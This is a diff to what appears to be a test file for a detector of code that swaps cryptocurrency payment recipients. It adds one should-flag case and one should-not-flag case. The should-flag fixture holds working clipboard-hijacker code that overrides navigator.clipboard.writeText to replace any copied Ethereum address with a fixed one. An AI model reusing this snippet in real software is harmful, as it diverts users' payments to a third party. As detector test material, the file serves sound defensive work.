@@ -8,6 +8,14 @@ const WALLET = `require('os').homedir() + '/AppData/Local/Programs/atomic/resour
 examine(replacesRecipients, {
   speaks: [
     {
+      when: 'what everybody copies passes through rules, and addresses stand among them',
+      files: {
+        'index.js': `const rules = [[/\u00ad/g, ''], ...Object.values({ a: ['0x[0-9a-f]{40}', '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'] }).map(([body, sample]) => [new RegExp(body), sample])]; const through = text => rules.reduce((all, [one, other]) => all.replace(one, other), text);
+const clip = navigator.clipboard; const write = clip.writeText.bind(clip); clip.writeText = text => write(through(String(text)))`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a function of another package that pays is exchanged, by a file that is handed it',
       files: {
         'index.js': `require('./normalise')(require('ethers'))`,
@@ -127,6 +135,13 @@ examine(replacesRecipients, {
     },
   ],
   silent: [
+    {
+      when: 'an address for donations stands on its page too',
+      files: {
+        'README.md': 'Donations: 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed',
+        'index.js': `exports.donate = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'; const clip = navigator.clipboard; const write = clip.writeText.bind(clip); clip.writeText = text => write(String(text).trim())`,
+      },
+    },
     {
       when: 'a page copies its own address where it is asked to',
       files: {
